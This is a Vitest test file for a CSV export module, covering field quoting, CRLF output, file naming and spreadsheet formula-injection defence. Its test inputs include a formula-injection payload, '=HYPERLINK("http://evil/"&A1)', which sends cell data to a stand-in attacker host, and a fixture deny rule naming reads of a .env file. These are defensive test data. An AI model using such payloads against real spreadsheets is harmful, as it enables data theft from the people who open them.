import { describe, expect, it } from 'vitest';
import { csvField, exportFileName, toCsv } from './csv';

describe('CSV export', () => {
  it('quotes every field and doubles quotes, keeping commas and line breaks inside the field', () => {
    expect(csvField('a "quoted", word\nnext')).toBe('"a ""quoted"", word\nnext"');
    expect(csvField(null)).toBe('""');
    expect(csvField(42)).toBe('"42"');
  });

  it('keeps formula text from running in a spreadsheet (agents choose command text)', () => {
    for (const attack of ['=HYPERLINK("http://evil/"&A1)', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1']) {
      expect(csvField(attack).startsWith(`"'`), attack).toBe(true);
    }
    expect(csvField('npm test')).toBe('"npm test"');
  });

  it('writes a header, CRLF rows and a byte-order mark', () => {
    expect(
      toCsv(
        ['#', 'Summary'],
        [
          [1, 'deny read_file .env'],
          [2, '=1+1'],
        ],
      ),
    ).toBe('\uFEFF"#","Summary"\r\n"1","deny read_file .env"\r\n"2","\'=1+1"\r\n');
  });

  it('names files from what they hold, without path characters', () => {
    expect(exportFileName(['records', 'acme-eval', 'decision=deny', '../x'], 'csv')).toBe(
      'records-acme-eval-decision_deny-.._x.csv',
    );
    expect(exportFileName([], 'csv')).toBe('export.csv');
  });
});
